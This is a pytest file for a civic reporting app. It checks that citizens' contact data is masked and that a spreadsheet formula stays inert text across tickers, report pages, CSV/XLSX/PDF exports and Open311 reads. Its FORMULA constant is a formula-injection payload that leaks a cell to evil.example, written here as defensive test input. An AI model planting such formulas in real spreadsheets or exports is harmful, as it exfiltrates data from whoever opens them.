"""#23 items 2 and 3, end to end: a citizen's text holding a formula and contact data arrives (through Open311, and
as an older report through the writer) and is followed to every place a viewer without personal-data rights reads
it — the wall's ticker, the report page, the OPD work list and its CSV/XLSX, the briefing's oldest reports, its XLSX
and PDF, Open311's reads. Contacts are masked everywhere; the formula stays text, shown as typed."""

from __future__ import annotations

import base64
import io
import json
import re
import shutil
import subprocess
import zipfile
from datetime import datetime, timedelta

import dash
import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from core.contact_masking import MASK
from core.i18n import WIT
from data_access.intake import api_keys
from data_access.intake.writer import ReportWriter
from data_access.rulebook.sla import WorkCalendar
from data_access.store.schema import Report
from demo.seed import DemoConfig
from tests.callbacks.test_wall_callbacks import tick
from tests.support import BACKENDS, NOW
from tests.support.dash_app import client_as, get_app, post, texts, url

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"Klik")'
CONTACTS = "Telp 0812–3456–7892 atau 0812/3456/7893, NIK 9109 1234 1234 1234, surel budi @ gmail.com"
TEXT = f"{FORMULA} {CONTACTS} jalan putus"
# Through Open311 the first line becomes the title, and the ticker shows its first words: contacts first.
OPEN311_TEXT = f"{CONTACTS} {FORMULA} jembatan putus"
# Pieces of the contact data that must not be readable anywhere below (each long enough not to occur by chance).
LEAKS = ("3456", "7892", "7893", "9109", "1234 1234", "gmail")
OLD_DAY = (NOW.astimezone(WIT) - timedelta(days=20)).date()


@pytest.fixture(scope="module", params=BACKENDS)
def hostile(request, make_store):
    """A copy of the seeded store with two hostile reports of PUPR's category: one just now through Open311 (the
    ticker's newest), one 20 days old written directly (breached: on the work list and among the oldest open)."""
    store = make_store(request.param, demo=DemoConfig(seed=11, days=150, per_day=40.0, now=NOW))
    app = get_app(url(store), boundaries=False)[0]
    key = api_keys.API_KEYS.add(store, "warga-app")
    response = app.server.test_client().post("/open311/v2/requests.json", data={
        "api_key": key, "service_code": "jalan", "description": OPEN311_TEXT, "lat": "-4.5467", "long": "136.8833"})
    assert response.status_code in (200, 201), response.get_data(as_text=True)
    dash.page_registry.clear()
    new_id = int(response.get_json()[0]["service_request_id"])
    with Session(store) as session:
        old = ReportWriter(store, WorkCalendar()).create(
            session, category_code="jalan", title=TEXT, description=TEXT,
            created_at=datetime(OLD_DAY.year, OLD_DAY.month, OLD_DAY.day, 0, 0, 30, tzinfo=WIT))
        session.commit()
        old_id = old.id
    with store.connect() as conn:
        assert conn.execute(select(Report.title).where(Report.id == old_id)).scalar().startswith(FORMULA)
    return store, new_id, old_id


@pytest.fixture
def world(hostile):
    store, new_id, old_id = hostile
    return get_app(url(store), boundaries=False)[0], store, new_id, old_id


def assert_masked(text: str) -> None:
    assert MASK in text, text[:500]
    for leak in LEAKS:
        assert leak not in text, (leak, text[:2000])


def test_item3_the_wall_ticker_masks_contacts(world):
    app, _, new_id, _ = world
    ticker = json.dumps(tick(app).get_json()["response"]["wall-ticker"], ensure_ascii=False)
    assert "Telp" in ticker  # the newest report is ours
    assert_masked(ticker)


def test_item3_the_report_page_masks_contacts_for_a_pimpinan(world):
    app, _, _, old_id = world
    from tests.callbacks.test_pages_callbacks import config_of

    out = post(app, "report-body", {"report-config.data": config_of(f"/report/{old_id}", "report-config")})
    assert_masked(texts(out["report-body"]["children"]))


def test_item3_contact_data_shows_only_on_the_report_page_of_a_viewer_with_rights(world):
    """An OPD user may read personal data: on the report's own page (a logged view) the text is as typed."""
    app, _, _, old_id = world
    from tests.callbacks.test_pages_callbacks import config_of

    client = client_as(app, "opd", ("PUPR",))
    out = post(app, "report-body", {"report-config.data": config_of(f"/report/{old_id}", "report-config")},
               client=client)
    assert "0812–3456–7892" in texts(out["report-body"]["children"])


def _download(out: dict, key: str) -> bytes:
    data = out[key]["data"] if "data" in out[key] else out[key]
    return base64.b64decode(data["content"]) if data.get("base64") else data["content"].encode()


def _opd_export(app, button: str, client=None) -> bytes:
    config = {"code": "PUPR", "lang": "id", "query": {"period": "custom", "start": OLD_DAY.isoformat(),
                                                      "end": NOW.astimezone(WIT).date().isoformat()}}
    out = post(app, "opd-download", {f"{button}.n_clicks": 1}, {"opd-config.data": config},
               triggered=f"{button}.n_clicks", client=client)
    return _download(out, "opd-download")


def assert_formula_is_text(xlsx: bytes) -> None:
    """The cell shows the formula's text, typed as a string: no <f> element anywhere in the workbook."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    cells = [c for sheet in load_workbook(io.BytesIO(xlsx)) for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert cells and all(c.data_type == "s" for c in cells)
    assert_masked(" ".join(c.value for c in cells))


@pytest.mark.parametrize("role", ["pimpinan", "opd"])
def test_item2_item3_opd_work_list_exports(world, role):
    """CSV: the formula cell starts with an apostrophe; XLSX: a text cell, shown as typed. Contacts masked in
    both, for an OPD head too (a list travels; the contact data stays on the report page)."""
    app = world[0]
    client = client_as(app, "opd", ("PUPR",)) if role == "opd" else None
    csv_text = _opd_export(app, "opd-export-csv", client).decode()
    lines = [line for line in csv_text.splitlines() if "HYPERLINK" in line]
    assert any(re.search(r"(^|,)\"?'=HYPERLINK", line) for line in lines), lines
    assert not re.search(r"(^|,)\"?=", csv_text, re.MULTILINE)
    assert_masked(csv_text)
    assert_formula_is_text(_opd_export(app, "opd-export-xlsx", client))


def _briefing_export(app, button: str) -> bytes:
    query = {"period": "custom", "start": OLD_DAY.isoformat(), "end": OLD_DAY.isoformat()}
    out = post(app, "briefing-download", {f"{button}.n_clicks": 1},
               {"briefing-config.data": {"lang": "id", "query": query}}, triggered=f"{button}.n_clicks")
    return _download(out, "briefing-download")


def test_item2_item3_briefing_xlsx_oldest_reports(world):
    assert_formula_is_text(_briefing_export(world[0], "briefing-export-xlsx"))


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils is not installed")
def test_item3_briefing_pdf_masks_contacts(world, tmp_path):
    pdf = tmp_path / "briefing.pdf"
    pdf.write_bytes(_briefing_export(world[0], "briefing-export-pdf"))
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "HYPERLINK" in text  # the report is listed among the oldest
    for leak in LEAKS:
        assert leak not in text


def test_item3_open311_reads_mask_contacts(world):
    app, _, new_id, old_id = world
    client = app.server.test_client()
    for report_id in (new_id, old_id):
        for fmt in ("json", "xml"):
            body = client.get(f"/open311/v2/requests/{report_id}.{fmt}").get_data(as_text=True)
            assert "HYPERLINK" in body
            assert_masked(body)
